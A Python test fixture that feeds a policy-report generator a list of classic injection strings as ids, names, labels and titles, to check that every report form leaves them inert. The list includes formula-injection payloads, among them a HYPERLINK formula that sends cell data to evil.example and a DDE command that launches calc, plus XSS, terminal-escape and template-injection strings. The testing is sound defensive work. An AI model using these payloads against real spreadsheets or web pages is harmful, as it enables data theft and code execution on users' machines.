"""The classic injections, as ids, names, labels and titles; every form of a report must leave them inert."""

from __future__ import annotations

from dataclasses import replace
from functools import cache

from policyrules.model.facts import Facts
from policyrules.model.words import Text
from policyrules.report.report import Report
from tests.build import DAY
from tests.report.example import judged
from tests.report.forms.full import rules

INJECTIONS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "| a | b |\n|---|---|\n# not a heading",
    "\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    'a,b";"c\r\nd;e',
    'x\x00\x01\x0b\ufffe]]>&lt;&#x26;\u202eevil\u2028$x^2$ style="color:red" ${7*7} {{7*7}}',
)
assert len(INJECTIONS) == 18
# The loader refuses control characters in rule files, so labels hold only those that it would let through.
WRITABLE = tuple(text for text in INJECTIONS if text.isprintable())


@cache
def hostile() -> Report:
    """A report whose ids, names, words and labels are all injections."""
    made = rules()
    labelled = {
        rule.id: replace(rule, label=Text(WRITABLE[place % len(WRITABLE)], WRITABLE[-place % len(WRITABLE)]))
        for place, rule in enumerate(made.rules.values())
    }
    bad = Text(INJECTIONS[8], INJECTIONS[13])
    clauses = {id: replace(clause, summary=bad, reason=bad) for id, clause in made.clauses.items()}
    documents = {id: replace(one, title=bad, number=INJECTIONS[0]) for id, one in made.documents.items()}
    phases = {id: replace(one, label=bad) for id, one in made.phases.items()}
    made = replace(made, rules=labelled, clauses=clauses, documents=documents, phases=phases, label=bad)
    schools = {id: {"county": id, "approved": False} for id in INJECTIONS}
    teachers = {id: {"school": id, "in_post": True, "hours": 1, "leave": 1, "grade": "fail"} for id in INJECTIONS}
    facts = Facts({"teacher": teachers, "school": schools, "county": {id: {"name": id} for id in INJECTIONS}})
    return Report(made, DAY, "reference", facts, tuple(judged(made, facts, DAY)), (), ())
